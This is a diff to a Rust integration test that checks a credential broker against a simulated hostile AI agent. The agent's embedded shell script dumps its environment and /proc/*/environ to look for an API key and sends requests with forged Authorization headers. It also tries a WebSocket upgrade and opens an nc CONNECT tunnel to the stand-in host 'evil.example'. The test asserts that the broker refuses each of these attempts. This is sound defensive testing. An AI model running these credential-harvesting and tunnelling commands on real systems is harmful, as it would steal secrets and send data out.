@@ -1,9 +1,10 @@
 //! The credential broker against a hostile agent on the real engine, offline (issue 32's
 //! acceptance): a `generic` agent with `credentialEnv: [ACME_API_KEY]` dumps its environment and
 //! every readable `/proc/*/environ` and `cmdline`, greps the places a key could be left, sends a
-//! request with its own `Authorization`, one to an off-list path, a WebSocket upgrade and a plain
-//! CONNECT to the provider host, makes one honest request, and writes its placeholder into a
-//! file. On the host, the real value and every 8-byte window of it are absent from
+//! request with its own `Authorization`, one to an off-list path, a WebSocket upgrade, a CONNECT
+//! to another host, and (as a client that ignores base URLs, through `HTTPS_PROXY`) a request
+//! with its own key and an honest one to the provider host, which the broker intercepts with the
+//! session CA; makes one honest request at the base URL, and writes its placeholder into a file. On the host, the real value and every 8-byte window of it are absent from
 //! `docker inspect`, every log, the store and the patch; the fake provider (ours, on a loopback
 //! test address) saw the real key only in its auth header; the proposal carries
 //! `credentialCanary`. The negative control (`credentialMode: env`) finds the key and flags it,
@@ -40,9 +41,13 @@ echo '== off-list path' >> $loot
 ask --header "Authorization: Bearer $ACME_API_KEY" "$B/v1/files"
 echo '== websocket' >> $loot
 ask --header "Authorization: Bearer $ACME_API_KEY" --header 'Connection: Upgrade' --header 'Upgrade: websocket' --header 'Sec-WebSocket-Version: 13' --header 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' "$B/v1/responses"
-echo '== connect' >> $loot
-printf 'CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n' | nc -w 3 127.0.0.1 3128 >> $loot 2>&1
+echo '== connect elsewhere' >> $loot
+(printf 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n'; sleep 2) | nc -w 3 127.0.0.1 3128 >> $loot 2>&1
 echo "exit=$?" >> $loot
+echo '== intercepted own key' >> $loot
+https-fetch https://api.openai.com/v1/responses --header "Authorization: Bearer sk-attacker-own-0123456789abcdef" --data '{"model":"m","input":"x"}' >> $loot 2>&1
+echo '== intercepted honest' >> $loot
+https-fetch https://api.openai.com/v1/responses --header "Authorization: Bearer $ACME_API_KEY" --header 'Content-Type: application/json' --data '{"model":"m","input":"hi","stream":true}' >> $loot 2>&1
 echo '== honest' >> $loot
 ask --header "Authorization: Bearer $ACME_API_KEY" --header 'Content-Type: application/json' --post-data '{"model":"m","input":"hi","stream":true}' "$B/v1/responses"
 echo "placeholder=$ACME_API_KEY" >> README.md
@@ -96,7 +101,8 @@ struct Run {
 /// One hostile run with the Adapter's `mode` (`broker` or `env`), the fake provider at `address`.
 async fn hostile_run(engine: &roundtable_docker::Engine, mode: &str, address: &str) -> Run {
     let address: SocketAddr = address.parse().expect("address");
-    let script = Script { responses_path: "/v1/responses".into(), turns: vec![completed()], get_body: json!({}) };
+    let script =
+        Script { responses_path: "/v1/responses".into(), turns: vec![completed(), completed()], get_body: json!({}) };
     let api = FakeResponses::start(address, &[PROVIDER], script).await.expect("fake provider");
     let dns = FakeDns::start("127.0.0.1:0".parse().expect("address")).await.expect("fake DNS");
     dns.answer(PROVIDER, vec![Reply::Addresses(vec![address.ip()])]);
@@ -188,21 +194,30 @@ async fn a_hostile_agent_never_holds_the_key_and_its_placeholder_is_caught() {
     assert!(answer("own key").contains("401"), "own key: {}", answer("own key"));
     assert!(answer("off-list path").contains("403"), "off-list: {}", answer("off-list path"));
     assert!(answer("websocket").contains("426"), "websocket: {}", answer("websocket"));
-    assert!(!answer("connect").contains("200"), "a plain CONNECT to the provider was refused: {}", answer("connect"));
+    let elsewhere = answer("connect elsewhere");
+    assert!(elsewhere.contains("403") && !elsewhere.contains(" 200 "), "a CONNECT to another host: {elsewhere}");
+    assert!(answer("intercepted own key").contains("401"), "intercepted, own key: {}", answer("intercepted own key"));
+    let intercepted = answer("intercepted honest");
+    assert!(
+        intercepted.contains("response.completed"),
+        "a client ignoring its base URL passed, intercepted: {intercepted}"
+    );
     assert!(answer("honest").contains("response.completed"), "the honest request passed: {}", answer("honest"));
 
     let recorded = run.api.recorded();
-    assert_eq!(recorded.len(), 1, "only the honest request reached the provider: {recorded:?}");
-    let honest = &recorded[0];
-    assert_eq!(honest.header("authorization"), Some(format!("Bearer {KEY}").as_str()));
-    for (name, value) in &honest.headers {
-        let placeholder = value.contains(roundtable_specs::broker::PLACEHOLDER_PREFIX) || value.contains(ATTACKER_KEY);
-        assert!(!placeholder, "{name} carried a placeholder or the agent's own key upstream");
-        if !name.eq_ignore_ascii_case("authorization") {
-            assert_eq!(leaks(value.as_bytes(), KEY), None, "the key went upstream in {name}");
+    assert_eq!(recorded.len(), 2, "only the two honest requests reached the provider: {recorded:?}");
+    for honest in &recorded {
+        assert_eq!(honest.header("authorization"), Some(format!("Bearer {KEY}").as_str()));
+        for (name, value) in &honest.headers {
+            let placeholder =
+                value.contains(roundtable_specs::broker::PLACEHOLDER_PREFIX) || value.contains(ATTACKER_KEY);
+            assert!(!placeholder, "{name} carried a placeholder or the agent's own key upstream");
+            if !name.eq_ignore_ascii_case("authorization") {
+                assert_eq!(leaks(value.as_bytes(), KEY), None, "the key went upstream in {name}");
+            }
         }
+        assert_eq!(leaks(&honest.body, KEY), None, "the key went upstream in the body");
     }
-    assert_eq!(leaks(&honest.body, KEY), None, "the key went upstream in the body");
 
     // The broker's log has one line per request, each with its reason, and never a credential.
     let log = std::fs::read_to_string(
@@ -221,9 +236,14 @@ async fn a_hostile_agent_never_holds_the_key_and_its_placeholder_is_caught() {
         .filter_map(|line| serde_json::from_str::<Value>(line).ok())
         .filter_map(|line| line["reason"].as_str().map(str::to_owned))
         .collect();
-    for expected in ["no_placeholder", "path_not_allowed", "upgrade_refused", "allowed"] {
+    for expected in ["no_placeholder", "path_not_allowed", "upgrade_refused", "tunnel_refused", "allowed"] {
         assert!(reasons.iter().any(|r| r == expected), "{expected} in {log}");
     }
+    let intercepted_allowed = log
+        .lines()
+        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
+        .any(|line| line["intercepted"] == true && line["reason"] == "allowed");
+    assert!(intercepted_allowed, "the intercepted honest request is logged as such: {log}");
     assert!(!log.contains(roundtable_specs::broker::PLACEHOLDER_PREFIX), "{log}");
 }
 
